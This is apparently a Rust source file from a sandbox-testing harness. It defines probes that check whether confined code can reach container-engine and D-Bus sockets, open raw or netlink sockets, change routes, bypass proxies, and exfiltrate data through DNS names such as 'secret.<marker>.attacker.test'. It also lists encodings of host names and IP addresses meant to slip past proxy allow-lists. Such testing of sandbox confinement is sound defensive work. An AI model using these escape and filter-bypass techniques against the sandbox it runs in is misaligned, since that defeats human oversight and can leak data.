//! Classes I to L: sockets of the host, ways out, names, and the forms in
//! which a host that is not allowed can be asked for.

use std::net::{Ipv4Addr, SocketAddr};

use stockade_attempt::{Message, Named, Order, Socket};

use super::strings;
use crate::{
    field::{Field, text},
    probe::{In, Judge, Probe},
};

pub(super) const PROBES: &[Probe] = &[
    Probe::standing(56, 'I', "reach container engines", Judge::Worked, |_, _| {
        unix(
            &[
                "/run/docker.sock",
                "/var/run/docker.sock",
                "/run/containerd/containerd.sock",
                "/run/podman/podman.sock",
            ],
            &[],
        )
    }),
    Probe::standing(57, 'I', "reach message buses", Judge::Worked, |_, _| {
        let own = format!("/run/user/{}/bus", rustix::process::getuid().as_raw());
        unix(&["/run/dbus/system_bus_socket", &own], &[])
    }),
    Probe::standing(58, 'I', "reach a display", Judge::Worked, |_, _| {
        let wayland = format!("/run/user/{}/wayland-0", rustix::process::getuid().as_raw());
        unix(&["/tmp/.X11-unix/X0", &wayland], &["/tmp/.X11-unix/X0"])
    }),
    Probe::standing(
        60,
        'I',
        "reach a socket of the host by its path",
        Judge::Host,
        |field, _| unix(&[&text(&field.ground().outside().join("socket"))], &[]),
    ),
    Probe::standing(
        61,
        'I',
        "send a datagram to a socket of the host",
        Judge::Host,
        |field, _| unix(&[&text(&field.ground().outside().join("log"))], &[]),
    ),
    Probe::standing(
        62,
        'I',
        "reach a socket of the host by its abstract name",
        Judge::Host,
        |field, _| unix(&[], &[field.ground().marker()]),
    ),
    Probe::need(
        64,
        'I',
        "sockets of one's own work: pairs, in the workspace, in /tmp",
        |_, _| vec![Order::OwnSockets(strings(&[".", "/tmp"]))],
    ),
    Probe::need(216, 'J', "a port of loopback works inside", |_, _| {
        vec![Order::OwnPort]
    }),
    Probe::standing(65, 'J', "reach the host by TCP", Judge::Host, |field, _| {
        vec![Order::Connect(messages(
            &field.listeners().streams(),
            |_| "hello\n".to_owned(),
        ))]
    }),
    Probe::standing(66, 'J', "reach the host by UDP", Judge::Host, |field, _| {
        vec![Order::Send(messages(
            &field.listeners().datagrams(),
            |_| "hello\n".to_owned(),
        ))]
    }),
    Probe::standing(67, 'J', "make sockets for ping", Judge::Worked, |_, _| {
        sockets(&[
            ("ping", libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP),
            (
                "ping6",
                libc::AF_INET6,
                libc::SOCK_DGRAM,
                libc::IPPROTO_ICMPV6,
            ),
            (
                "raw ICMP",
                libc::AF_INET,
                libc::SOCK_RAW,
                libc::IPPROTO_ICMP,
            ),
        ])
    }),
    Probe::standing(
        69,
        'J',
        "make sockets of other protocols, raw and packet ones",
        Judge::Worked,
        |_, _| {
            sockets(&[
                ("SCTP", libc::AF_INET, libc::SOCK_STREAM, libc::IPPROTO_SCTP),
                ("DCCP", libc::AF_INET, libc::SOCK_DCCP, libc::IPPROTO_DCCP),
                (
                    "MPTCP",
                    libc::AF_INET,
                    libc::SOCK_STREAM,
                    libc::IPPROTO_MPTCP,
                ),
                (
                    "UDP-Lite",
                    libc::AF_INET,
                    libc::SOCK_DGRAM,
                    libc::IPPROTO_UDPLITE,
                ),
                ("raw IP", libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW),
                ("raw TCP", libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_TCP),
                ("packet", libc::AF_PACKET, libc::SOCK_RAW, 768),
                ("packet datagram", libc::AF_PACKET, libc::SOCK_DGRAM, 768),
            ])
        },
    ),
    Probe::standing(
        71,
        'J',
        "make sockets of other families",
        Judge::Worked,
        |_, _| {
            sockets(&[
                (
                    "netlink audit",
                    libc::AF_NETLINK,
                    libc::SOCK_RAW,
                    libc::NETLINK_AUDIT,
                ),
                (
                    "netlink netfilter",
                    libc::AF_NETLINK,
                    libc::SOCK_RAW,
                    libc::NETLINK_NETFILTER,
                ),
                (
                    "netlink uevent",
                    libc::AF_NETLINK,
                    libc::SOCK_RAW,
                    libc::NETLINK_KOBJECT_UEVENT,
                ),
                (
                    "netlink generic",
                    libc::AF_NETLINK,
                    libc::SOCK_RAW,
                    libc::NETLINK_GENERIC,
                ),
                ("crypto", libc::AF_ALG, libc::SOCK_SEQPACKET, 0),
                ("XDP", libc::AF_XDP, libc::SOCK_RAW, 0),
                ("vsock", libc::AF_VSOCK, libc::SOCK_STREAM, 0),
                ("Bluetooth", libc::AF_BLUETOOTH, libc::SOCK_RAW, 1),
                ("TIPC", libc::AF_TIPC, libc::SOCK_DGRAM, 0),
            ])
        },
    ),
    Probe::standing(
        73,
        'J',
        "change interfaces, addresses and routes",
        Judge::Worked,
        |_, _| vec![Order::Netlink],
    ),
    Probe::standing(
        75,
        'J',
        "send a request past any proxy",
        Judge::Host,
        |field, _| vec![Order::Connect(requests(field, SocketAddr::to_string))],
    ),
    Probe::standing(
        76,
        'K',
        "send a question for a name whose letters carry data",
        Judge::Host,
        |field, _| {
            let question = |_: &SocketAddr| {
                let mut text = "\u{12}\u{34}\u{1}\0\0\u{1}\0\0\0\0\0\0".to_owned();
                for label in ["secret", "attacker", "test"] {
                    text.push(char::from(u8::try_from(label.len()).unwrap_or(0)));
                    text.push_str(label);
                }
                text.push_str("\0\0\u{1}\0\u{1}");
                text
            };
            vec![Order::Send(messages(
                &field.listeners().datagrams(),
                question,
            ))]
        },
    ),
    Probe::within(
        226,
        'K',
        "have such a name looked up by whoever answers names",
        In::Named,
        Judge::Host,
        |field, _| {
            let name = format!("secret.{}.attacker.test", field.ground().marker());
            let port = field
                .listeners()
                .streams()
                .first()
                .map_or(0, SocketAddr::port);
            let text = format!("GET / HTTP/1.1\r\nHost: {name}\r\n\r\n");
            vec![Order::Ask(vec![Named { name, port, text }])]
        },
    ),
    Probe::standing(
        77,
        'K',
        "have a proxy ask for a name that is not allowed",
        Judge::Host,
        |field, _| asked(field, |host| vec![host.to_owned()]),
    ),
    Probe::standing(
        81,
        'L',
        "write the name of a host in other ways",
        Judge::Host,
        |field, _| {
            asked(field, |host| {
                let (first, rest) = host.split_at(1);
                vec![
                    format!("{}.", host.to_uppercase()),
                    format!("{host}.."),
                    format!("%{:02x}{rest}", first.as_bytes()[0]),
                    format!("ok.test@{host}"),
                    format!("{host}#.ok.test"),
                    format!("{host}%00.ok.test"),
                    format!("ok.test\\@{host}"),
                ]
            })
        },
    ),
    Probe::standing(
        83,
        'L',
        "write an address in other ways",
        Judge::Host,
        |field, _| {
            asked(field, |host| {
                let Ok(address) = host.parse::<Ipv4Addr>() else {
                    return Vec::new();
                };
                let number = address.to_bits();
                let [first, rest @ ..] = address.octets();
                let rest = u32::from_be_bytes([0, rest[0], rest[1], rest[2]]);
                vec![
                    number.to_string(),
                    format!("{number:#x}"),
                    format!("0{first:o}.{rest}"),
                    format!("{first:#x}.{rest}"),
                    format!("[::ffff:{address}]"),
                ]
            })
        },
    ),
    Probe::standing(
        87,
        'L',
        "have a proxy connect to a port that is not allowed",
        Judge::Host,
        |field, _| {
            let ports = field.listeners().streams();
            let asks = ports
                .iter()
                .map(|to| format!("CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n"));
            let mut orders = vec![Order::Connect(requests(field, SocketAddr::to_string))];
            orders.push(Order::Proxied(asks.collect()));
            orders
        },
    ),
    Probe::standing(
        88,
        'L',
        "send a plain request to a host that is not allowed",
        Judge::Host,
        |field, _| asked(field, |host| vec![host.to_owned()]),
    ),
];

fn unix(paths: &[&str], names: &[&str]) -> Vec<Order> {
    vec![Order::Unix {
        paths: strings(paths),
        names: strings(names),
    }]
}

fn sockets(kinds: &[(&str, i32, i32, i32)]) -> Vec<Order> {
    let socket = |(name, family, kind, protocol): &(&str, i32, i32, i32)| Socket {
        name: (*name).to_owned(),
        family: *family,
        kind: *kind,
        protocol: *protocol,
    };
    vec![Order::Sockets(kinds.iter().map(socket).collect())]
}

fn messages(to: &[SocketAddr], say: impl Fn(&SocketAddr) -> String) -> Vec<Message> {
    let message = |to: &SocketAddr| Message {
        to: *to,
        text: say(to),
    };
    to.iter().map(message).collect()
}

/// A plain request straight to each listener, which calls it `host`.
fn requests(field: &Field, host: impl Fn(&SocketAddr) -> String) -> Vec<Message> {
    messages(&field.listeners().streams(), |to| {
        format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", host(to))
    })
}

/// Each listener of IPv4 asked for straight, and through whatever proxy there is,
/// by the forms that `write` makes of its address, and of `localhost` where it is that.
fn asked(field: &Field, write: impl Fn(&str) -> Vec<String>) -> Vec<Order> {
    let mut straight = Vec::new();
    let mut through = Vec::new();
    for to in field.listeners().streams() {
        let SocketAddr::V4(address) = to else {
            continue;
        };
        let mut forms = write(&address.ip().to_string());
        if address.ip().is_loopback() {
            forms.extend(write("localhost"));
        }
        for form in forms {
            let host = format!("{form}:{}", to.port());
            straight.push(Message {
                to,
                text: format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            });
            through.push(format!(
                "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n"
            ));
        }
    }
    vec![Order::Connect(straight), Order::Proxied(through)]
}
